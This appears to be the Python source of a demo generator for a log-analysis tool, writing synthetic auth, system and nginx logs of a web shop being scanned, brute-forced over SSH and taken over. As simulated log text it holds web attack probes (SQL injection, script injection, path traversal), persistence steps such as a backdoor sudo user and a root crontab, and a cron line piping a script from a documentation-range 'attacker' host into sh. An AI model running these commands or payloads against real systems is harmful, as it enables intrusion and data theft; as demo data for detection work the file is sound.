"""The demonstration: a small web shop is scanned, broken into and made to stay open, in real log lines, live.

The story goes through real files, so that what the demonstration shows is what ThreatLens does with anybody's logs.
It is a pure function of its start and seed; every address is from the ranges reserved for documentation.
"""

from __future__ import annotations

import datetime as dt
import itertools
import os
import random
import time
from collections.abc import Callable, Iterator
from typing import BinaryIO, NamedTuple

AUTH = "auth.log"
SYSTEM = "system.log"
WEB = "nginx-access.log"
DEMO_SOURCES = {"demo-auth": AUTH, "demo-system": SYSTEM, "demo-web": WEB}  # source name -> file in the demo's folder

ROTATE_BYTES = 5_000_000  # a file that grows beyond it becomes FILE.1, replacing the last one
LATE_S = 10.0  # further behind than this (a laptop slept), the story starts anew instead of rushing
CYCLE_S = 300.0  # one attack and the calm after it

HOST = "web1"
OWN = "192.0.2.10"
ATTACKERS = ("203.0.113.9", "198.51.100.77", "203.0.113.140")  # one after the other
LAIR = "198.51.100.23"  # where the intruder's tools call home
ADMIN = "192.0.2.21"

PAGES = (
    "/", "/", "/", "/category/lamps", "/category/chairs", "/product/1042", "/product/1187", "/product/2203",
    "/product/3310", "/search?q=oak+table", "/search?q=desk", "/cart", "/about", "/delivery",
)  # fmt: skip
ASSETS = ("/static/shop.css", "/static/shop.js", "/img/logo.svg", "/img/1042.webp", "/img/1187.webp", "/favicon.ico")
BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
)
PROBES = (
    ("GET /.env", 404), ("GET /.git/config", 404), ("GET /wp-login.php", 404), ("GET /xmlrpc.php", 404),
    ("GET /phpmyadmin/index.php", 404), ("GET /admin/config.php", 404), ("GET /actuator/env", 404),
    ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404), ("GET /server-status", 403),
    ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400), ("GET /solr/admin/info/system", 404),
    ("GET /product/1042?id=1%27%20UNION%20SELECT%20login,password%20FROM%20users--", 403),
    ("GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E", 200), ("GET /../../../../etc/passwd", 400),
    ("GET /backup.zip", 404), ("GET /db.sql.gz", 404), ("GET /login.action", 404), ("GET /api/jsonws/invoke", 404),
)  # fmt: skip
SCANNERS = ("Mozilla/5.0 zgrab/0.x", "sqlmap/1.9#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0)")
PORTS = (21, 23, 25, 110, 135, 139, 445, 1433, 1521, 2375, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200, 11211, 27017)
GUESSED = ("admin", "test", "oracle", "postgres", "ubuntu", "git", "ftpuser", "jenkins", "pi", "www")
TIMERS = (
    ("apt-daily.service", "Daily apt download activities"),
    ("logrotate.service", "Rotate log files"),
    ("man-db.service", "Daily man-db regeneration"),
    ("fstrim.service", "Discard unused blocks on filesystems from /etc/fstab"),
)
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


class Moment(NamedTuple):
    """A line to be, and when: a tuple as thousands are made and sorted at once."""

    at_s: float  # seconds after the cycle began
    file_name: str
    text: str  # syslog: what follows the host; nginx: the line with {when} in place of its time


class Login(NamedTuple):
    """Who logs in, from where."""

    user: str
    uid: int
    ip: str
    port: int


def story(start: dt.datetime, seed: int = 1, *, speed: float = 1.0) -> Iterator[tuple[float, str, str]]:
    """Lines without end: (seconds to wait since the one before, file name, line without its newline).

    `start` must know its timezone. `speed` 2 tells the story twice as fast; times in the lines are those of writing.
    """
    rng = random.Random(seed)  # noqa: S311 - a story, not a secret
    written_s = 0.0
    for number, attacker in enumerate(itertools.cycle(ATTACKERS)):
        for moment in sorted(_cycle(rng, attacker), key=lambda moment: moment.at_s):
            at_s = (number * CYCLE_S + moment.at_s) / speed
            yield at_s - written_s, moment.file_name, _line(moment, start + dt.timedelta(seconds=at_s))
            written_s = at_s


def made_up_attack(now: dt.datetime, seed: int | None = None) -> list[str]:
    """The lines of one small attack that ends now: passwords are guessed over SSH for a minute, and one is right."""
    rng = random.Random(seed)  # noqa: S311 - a story, not a secret
    attacker = f"203.0.113.{rng.randrange(1, 255)}"
    moments = [
        moment
        for number in range(16)
        for moment in _failed_login(rng, 3.2 * number, rng.choice(("root", *GUESSED)), attacker, known=number % 3 == 0)
    ]
    moments += _failed_login(rng, 53.0, "deploy", attacker, known=True)
    login = Login("deploy", 1001, attacker, rng.randrange(32_768, 60_999))
    moments += (each for each in _session(rng, 58.0, login, "password", length_s=1.0) if each.file_name == AUTH)
    start = now - dt.timedelta(seconds=60)
    ordered = sorted(moments, key=lambda moment: moment.at_s)
    return [_line(moment, start + dt.timedelta(seconds=moment.at_s)) for moment in ordered]


class DemoWriter:
    """Writes the story into files of one folder, in real time, until told to stop. Takes 30 MB of disk at most."""

    def __init__(
        self,
        folder: str,
        *,
        seed: int = 1,
        speed: float = 1.0,
        clock: Callable[[], float] = time.monotonic,
        now: Callable[[], dt.datetime] = lambda: dt.datetime.now(dt.UTC),
    ) -> None:
        self.folder = folder
        self._seed = seed
        self._speed = speed
        self._clock = clock
        self._now = now

    def begin(self) -> None:
        """Make the files that are not there yet, so that nobody finds a source missing. Raises OSError."""
        os.makedirs(self.folder, exist_ok=True)
        for name in (AUTH, SYSTEM, WEB):
            with open(os.path.join(self.folder, name), "ab"):
                pass

    def run(self, wait: Callable[[float], bool]) -> None:
        """Write until `wait(seconds)` answers True (threading.Event.wait does). Raises OSError when it cannot write."""
        os.makedirs(self.folder, exist_ok=True)
        while not self._tell(wait):
            pass  # we came too late to go on: start again from now

    def _tell(self, wait: Callable[[float], bool]) -> bool:
        """Tell the story from its start; True: told to stop, False: too far behind."""
        due_s = self._clock()
        for delay_s, file_name, line in story(self._now(), self._seed, speed=self._speed):
            due_s += delay_s
            early_s = due_s - self._clock()
            if early_s < -LATE_S:
                return False
            if wait(max(0.0, early_s)):
                return True
            self._append(file_name, line.encode() + b"\n")
        raise AssertionError("the story has no end")

    def _append(self, file_name: str, line: bytes) -> None:
        path = os.path.join(self.folder, file_name)
        file: BinaryIO
        with open(path, "ab", buffering=0) as file:
            size = file.tell()
            file.write(line)
        if size + len(line) > ROTATE_BYTES:
            os.replace(path, path + ".1")


def _line(moment: Moment, when: dt.datetime) -> str:
    if moment.file_name == WEB:
        clf = f"{when.day:02}/{MONTHS[when.month - 1]}/{when.year}:{when:%H:%M:%S %z}"
        return moment.text.replace("{when}", clf)
    return f"{when.isoformat(timespec='microseconds')} {HOST} {moment.text}"


def _cycle(rng: random.Random, attacker: str) -> Iterator[Moment]:
    """One attack among everyday life, then calm."""
    yield from _visitors(rng)
    yield from _machine(rng)
    yield from _administrator(rng)
    yield from _port_scan(rng, attacker, 3.0)
    yield from _web_scan(rng, attacker, 9.0)
    yield from _brute_force(rng, attacker, 16.0)
    yield from _intrusion(rng, attacker, 54.0)
    yield from _return(rng, 168.0)


def _request(at_s: float, ip: str, request: str, status: int, *, size: int, agent: str, referrer: str = "-") -> Moment:
    text = f'{ip} - - [{{when}}] "{request} HTTP/1.1" {status} {size} "{referrer}" "{agent}"'
    return Moment(at_s, WEB, text)


def _kernel(at_s: float, message: str) -> Moment:
    return Moment(at_s, SYSTEM, f"kernel: [{86_400 + at_s:13.6f}] {message}")


def _visitors(rng: random.Random) -> Iterator[Moment]:
    """People who look at lamps, and the check that the shop is up."""
    at_s = 0.2
    while at_s < CYCLE_S:
        yield from _visit(rng, at_s)
        at_s += rng.expovariate(0.4)
    for tick in range(0, int(CYCLE_S), 10):
        yield _request(tick + 0.5, "192.0.2.5", "GET /healthz", 200, size=3, agent="uptime-check/2.1")


def _visit(rng: random.Random, at_s: float) -> Iterator[Moment]:
    """Somebody reads a few pages; browsers fetch what they need for each; a cart may become an order."""
    new, old = f"2001:db8:{rng.randrange(1, 9999):x}::{rng.randrange(2, 99)}", f"198.51.100.{rng.randrange(100, 250)}"
    ip, agent, referrer = rng.choice((new, old)), rng.choice(BROWSERS), "-"
    for page in rng.choices(PAGES, k=rng.randrange(1, 5)):
        yield _request(at_s, ip, f"GET {page}", 200, size=rng.randrange(4_000, 42_000), agent=agent, referrer=referrer)
        referrer = f"https://shop.example{page}"
        for asset in rng.sample(ASSETS, k=rng.randrange(0, 4)):
            status, then_s = rng.choice((200, 200, 304)), at_s + rng.uniform(0.05, 0.6)
            size = 0 if status == 304 else rng.randrange(900, 90_000)
            yield _request(then_s, ip, f"GET {asset}", status, size=size, agent=agent, referrer=referrer)
        at_s += rng.uniform(2.0, 15.0)
    if referrer.endswith("/cart") and rng.random() < 0.6:
        yield _request(at_s, ip, "POST /checkout", 302, size=0, agent=agent, referrer=referrer)
    if rng.random() < 0.03:
        yield _request(at_s + 1, ip, "GET /product/999", 404, size=1_532, agent=agent, referrer=referrer)


def _machine(rng: random.Random) -> Iterator[Moment]:
    """Cron and systemd go about their work."""
    for minute in range(0, int(CYCLE_S), 30):
        pid, at_s = rng.randrange(2_000, 30_000), minute + 1.0
        session = f"CRON[{pid}]: pam_unix(cron:session): session"
        yield Moment(at_s, AUTH, f"{session} opened for user www-data(uid=33) by (uid=0)")
        yield Moment(at_s + 0.01, SYSTEM, f"CRON[{pid}]: (www-data) CMD (/usr/bin/php /srv/shop/cron.php --quiet)")
        yield Moment(at_s + rng.uniform(0.3, 1.5), AUTH, f"{session} closed for user www-data")
    for at_s in (2.5, 75.0, 140.0, 215.0, 280.0):
        unit, what = rng.choice(TIMERS)
        yield Moment(at_s, SYSTEM, f"systemd[1]: Starting {unit} - {what}...")
        yield Moment(at_s + 0.8, SYSTEM, f"systemd[1]: {unit}: Deactivated successfully.")
        yield Moment(at_s + 0.81, SYSTEM, f"systemd[1]: Finished {unit} - {what}.")


def _administrator(rng: random.Random) -> Iterator[Moment]:
    """Anna, who runs the shop: once at the start, once in the calm, with one typing mistake."""
    key = "publickey ED25519 SHA256:4kB0vN3m0qk2wYkqjJ1f4uU7cXkz0nq8aTgkq2o9xVE"
    for at_s, command in ((1.5, "/usr/bin/systemctl reload nginx"), (200.0, "/usr/bin/apt-get upgrade")):
        login = Login("anna", 1000, ADMIN, rng.randrange(40_000, 60_000))
        yield from _session(rng, at_s, login, key, length_s=14.0)
        if at_s > CYCLE_S / 2:
            yield Moment(
                at_s + 2,
                AUTH,
                "sudo: pam_unix(sudo:auth): authentication failure; logname=anna uid=1000 euid=0 tty=/dev/pts/0 "
                "ruser=anna rhost=  user=anna",
            )
        yield from _sudo(at_s + 4, "anna", 1000, "pts/0", command)
    yield Moment(6.0, SYSTEM, "systemd[1]: Reloading nginx.service - A high performance web server...")
    yield Moment(6.1, SYSTEM, "systemd[1]: Reloaded nginx.service - A high performance web server.")


def _session(rng: random.Random, at_s: float, login: Login, proof: str, *, length_s: float) -> Iterator[Moment]:
    """Somebody logs in over SSH by `proof` ("password", or "publickey" and the key), stays, and leaves."""
    user, uid, ip, port = login
    method, _, key = proof.partition(" ")
    sshd, session = f"sshd[{rng.randrange(2_000, 30_000)}]:", rng.randrange(100, 999)
    pam = f"{sshd} pam_unix(sshd:session): session"
    accepted = f"{sshd} Accepted {method} for {user} from {ip} port {port} ssh2" + (f": {key}" if key else "")
    yield Moment(at_s, AUTH, accepted)
    yield Moment(at_s + 0.02, AUTH, f"{pam} opened for user {user}(uid={uid}) by (uid=0)")
    yield Moment(at_s + 0.04, AUTH, f"systemd-logind[612]: New session {session} of user {user}.")
    yield Moment(
        at_s + 0.05, SYSTEM, f"systemd[1]: Started session-{session}.scope - Session {session} of User {user}."
    )
    end_s = at_s + length_s
    yield Moment(end_s, AUTH, f"{sshd} Received disconnect from {ip} port {port}:11: disconnected by user")
    yield Moment(end_s + 0.01, AUTH, f"{sshd} Disconnected from user {user} {ip} port {port}")
    yield Moment(end_s + 0.02, AUTH, f"{pam} closed for user {user}")
    yield Moment(end_s + 0.05, AUTH, f"systemd-logind[612]: Removed session {session}.")


def _sudo(at_s: float, user: str, uid: int, tty: str, command: str, *, length_s: float = 0.4) -> Iterator[Moment]:
    service = "sudo-i" if command == "/bin/bash" else "sudo"
    session = f"sudo: pam_unix({service}:session): session"
    yield Moment(at_s, AUTH, f"sudo:     {user} : TTY={tty} ; PWD=/home/{user} ; USER=root ; COMMAND={command}")
    yield Moment(at_s + 0.01, AUTH, f"{session} opened for user root(uid=0) by {user}(uid={uid})")
    yield Moment(at_s + length_s, AUTH, f"{session} closed for user root")


def _port_scan(rng: random.Random, attacker: str, at_s: float) -> Iterator[Moment]:
    """Somebody knocks at every door; the firewall says so."""
    for port in rng.sample(PORTS, k=len(PORTS)) * 3:
        at_s += rng.expovariate(5.0)
        yield _kernel(
            at_s,
            "[UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:6b:3c:58:52:54:00:12:35:02:08:00 "
            f"SRC={attacker} DST={OWN} LEN=44 TOS=0x00 PREC=0x00 TTL=243 ID={rng.randrange(65_536)} PROTO=TCP "
            f"SPT={rng.randrange(40_000, 65_000)} DPT={port} WINDOW=1024 RES=0x00 SYN URGP=0",
        )


def _web_scan(rng: random.Random, attacker: str, at_s: float) -> Iterator[Moment]:
    """Then the shop is asked for what it should never give out."""
    for round_number, agent in enumerate(SCANNERS):
        for request, status in rng.sample(PROBES, k=len(PROBES)):
            at_s += rng.expovariate(3.0 + 2 * round_number)
            yield _request(at_s, attacker, request, status, size=rng.choice((150, 162, 548)), agent=agent)


def _brute_force(rng: random.Random, attacker: str, at_s: float) -> Iterator[Moment]:
    """Passwords are guessed, slowly, then faster, first for anybody, then for root and deploy."""
    end_s, begun_s = at_s + 36.0, at_s
    while at_s < end_s:
        progress = (at_s - begun_s) / (end_s - begun_s)
        known = ("root", "deploy") if progress > 0.4 else ("root",)
        user = rng.choice(known) if rng.random() < 0.3 + progress / 2 else rng.choice(GUESSED)
        yield from _failed_login(rng, at_s, user, attacker, known=user in {"root", "deploy"})
        at_s += rng.expovariate(0.7 + 3.0 * progress)


def _failed_login(rng: random.Random, at_s: float, user: str, ip: str, *, known: bool) -> Iterator[Moment]:
    sshd, port = f"sshd[{rng.randrange(2_000, 30_000)}]:", rng.randrange(32_768, 60_999)
    pam = f"{sshd} pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}"
    if known:
        yield Moment(at_s, AUTH, f"{pam}  user={user}")
        yield Moment(at_s + 1.1, AUTH, f"{sshd} Failed password for {user} from {ip} port {port} ssh2")
        yield Moment(
            at_s + 1.2, AUTH, f"{sshd} Connection closed by authenticating user {user} {ip} port {port} [preauth]"
        )
    else:
        yield Moment(at_s, AUTH, f"{sshd} Invalid user {user} from {ip} port {port}")
        yield Moment(at_s + 0.01, AUTH, f"{sshd} pam_unix(sshd:auth): check pass; user unknown")
        yield Moment(at_s + 0.02, AUTH, pam)
        yield Moment(at_s + 1.1, AUTH, f"{sshd} Failed password for invalid user {user} from {ip} port {port} ssh2")
        yield Moment(at_s + 1.2, AUTH, f"{sshd} Connection closed by invalid user {user} {ip} port {port} [preauth]")


def _intrusion(rng: random.Random, attacker: str, at_s: float) -> Iterator[Moment]:
    """One guess is right: in as deploy, root by sudo, three ways to come back, and the first call home."""
    yield from _failed_login(rng, at_s - 2, "deploy", attacker, known=True)
    login = Login("deploy", 1001, attacker, rng.randrange(32_768, 60_999))
    yield from _session(rng, at_s, login, "password", length_s=62.0)
    yield from _sudo(at_s + 3, "deploy", 1001, "pts/1", "/usr/bin/id")
    yield from _sudo(at_s + 6, "deploy", 1001, "pts/1", "/bin/bash", length_s=55.0)
    useradd, usermod = rng.randrange(20_000, 30_000), rng.randrange(20_000, 30_000)
    yield Moment(at_s + 11, AUTH, f"useradd[{useradd}]: new group: name=svc-backup, GID=1002")
    yield Moment(
        at_s + 11.01,
        AUTH,
        f"useradd[{useradd}]: new user: name=svc-backup, UID=1002, GID=1002, home=/home/svc-backup, shell=/bin/bash, "
        "from=/dev/pts/1",
    )
    yield Moment(at_s + 13, AUTH, f"passwd[{useradd + 7}]: pam_unix(passwd:chauthtok): password changed for svc-backup")
    yield Moment(at_s + 15, AUTH, f"usermod[{usermod}]: add 'svc-backup' to group 'sudo'")
    yield Moment(at_s + 15.01, AUTH, f"usermod[{usermod}]: add 'svc-backup' to shadow group 'sudo'")
    yield from _sudo(at_s + 19, "deploy", 1001, "pts/1", "/usr/bin/tee -a /root/.ssh/authorized_keys")
    yield from _sudo(at_s + 23, "deploy", 1001, "pts/1", "/usr/bin/crontab /tmp/.update")
    yield Moment(at_s + 23.1, SYSTEM, f"crontab[{usermod + 31}]: (root) REPLACE (root)")
    for minute in (26, 46, 66, 106):
        yield Moment(at_s + minute, SYSTEM, f"CRON[{usermod + minute}]: (root) CMD (curl -fsS http://{LAIR}/u.sh | sh)")
        yield from _call_home(rng, at_s + minute + 0.5)


def _call_home(rng: random.Random, at_s: float) -> Iterator[Moment]:
    for port in (80, 4444, 4444, 4444):
        at_s += rng.expovariate(2.0)
        verdict = "ALLOW" if port == 80 else "BLOCK"
        yield _kernel(
            at_s,
            f"[UFW {verdict}] IN= OUT=eth0 SRC={OWN} DST={LAIR} LEN=60 TOS=0x00 PREC=0x00 TTL=64 "
            f"ID={rng.randrange(65_536)} DF PROTO=TCP SPT={rng.randrange(32_768, 60_999)} DPT={port} "
            "WINDOW=64240 RES=0x00 SYN URGP=0",
        )


def _return(rng: random.Random, at_s: float) -> Iterator[Moment]:
    """Later, by the new door."""
    login = Login("svc-backup", 1002, LAIR, rng.randrange(32_768, 60_999))
    key = "publickey RSA SHA256:q9Yw1mT6o0h5Zl3rX8cVb2nK7jP4sD1fG6aH9uE0iWk"
    yield from _session(rng, at_s, login, key, length_s=20.0)
    yield from _sudo(at_s + 5, "svc-backup", 1002, "pts/2", "/usr/bin/tar czf /tmp/.d.tgz /srv/shop/data")
